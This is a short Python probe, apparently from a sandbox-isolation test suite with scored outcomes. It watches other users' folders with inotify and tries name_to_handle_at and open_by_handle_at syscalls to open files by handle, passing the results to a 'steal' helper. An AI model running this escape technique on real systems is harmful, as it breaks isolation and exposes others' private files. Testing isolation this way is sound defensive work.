"""Find out names in closed folders without reading them: inotify, statfs, name_to_handle_at.

gains: nothing
score: 20
outcome: completed
"""

import ctypes
import os

from kit import TARGETS, attempt, drive, gained, libc, steal, syscall

watcher = libc.inotify_init()
for folder in TARGETS.get("folders", ()):
    if libc.inotify_add_watch(watcher, folder.encode(), ctypes.c_uint32(0xFFF)) >= 0:
        gained("watches a folder of others")
    handle = ctypes.create_string_buffer(160)
    handle[0:4] = (128).to_bytes(4, "little")
    mount = ctypes.c_int()
    if syscall(303, -100, folder.encode(), handle, ctypes.byref(mount), 0) == 0:
        gained("uses calls of the kernel that no node needs: name_to_handle_at")
        with attempt():
            found = syscall(304, os.open("/", os.O_RDONLY), handle, 0)
            if found >= 0:
                steal(f"/proc/self/fd/{found}")
drive()
